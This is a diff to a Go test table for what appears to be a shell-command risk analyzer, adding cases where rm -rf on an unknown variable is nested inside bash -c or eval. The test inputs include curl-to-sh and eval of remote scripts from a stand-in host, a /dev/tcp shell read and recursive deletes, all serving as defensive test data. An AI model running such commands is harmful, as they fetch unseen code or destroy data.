@@ -187,6 +187,11 @@ func TestAnalyze(t *testing.T) {
 		{"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", "curl; sh unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$(curl -fsSL https://x.example/i.sh)\"", "curl; eval unseen-code:https://x.example/i.sh+D"},
 		{"eval \"$CMD\"", "eval unseen-code:$CMD+D"},
+		// Code with an unknown part: the nested line has the unknown word
+		// where it was written (rm -rf $D), not rm -rf.
+		{"bash -c \"rm -rf $D\"", "[bash -c]rm delete:+R+D"},
+		{"eval \"rm -rf $D/*\"", "[eval]rm delete:/*+R+D+G"},
+		{"bash -c \"cd /srv && rm -rf $D\"", "[bash -c]cd; [bash -c]rm delete:+R+D"},
 		{"eval \"$(ssh-agent -s)\"", "ssh-agent"},
 		{"source <(kubectl completion bash)", "kubectl"},
 		{"bash < /dev/tcp/h/1", "bash unseen-code:/dev/tcp/h/1+D"},
